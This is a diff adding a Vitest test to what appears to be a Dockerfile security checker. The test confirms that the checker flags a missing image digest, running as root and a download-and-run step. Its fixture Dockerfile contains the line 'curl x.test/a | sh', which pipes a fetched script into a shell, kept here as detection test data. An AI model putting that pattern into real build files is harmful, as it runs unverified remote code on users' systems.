@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { sha256 } from '../core/index.ts';
 import { formatLock, inputSections, type InputLine, type InputSection } from '../lock/index.ts';
+import { checkText, counts, defaultSettings } from './index.ts';
 import { lockedInputs } from './lock-inputs.ts';
 
 const [index, manifest, other] = [sha256('index'), sha256('manifest'), sha256('other')];
@@ -26,6 +27,17 @@ function locked(lines: Partial<Record<InputSection, readonly InputLine[]>>) {
 }
 
 describe('what a lock says of', () => {
+  it('drift: it is held, while trust still counts', () => {
+    const context = { hasFile: () => false, locked: locked({}) };
+    const text = 'FROM debian:12\nRUN apt-get install -y curl && curl x.test/a | sh\n';
+    const counted = (file: string) =>
+      checkText(text, file, defaultSettings, context)
+        .findings.filter(counts)
+        .map(({ rule }) => rule);
+    expect(counted('sub/Dockerfile')).toEqual(['image-digest', 'user-root', 'download-run']);
+    expect(counted('sub/Dockerfile.other')).toContain('apt-version');
+  });
+
   it('an image, however its name is written', () => {
     const { imageDigest } = locked({
       image: [
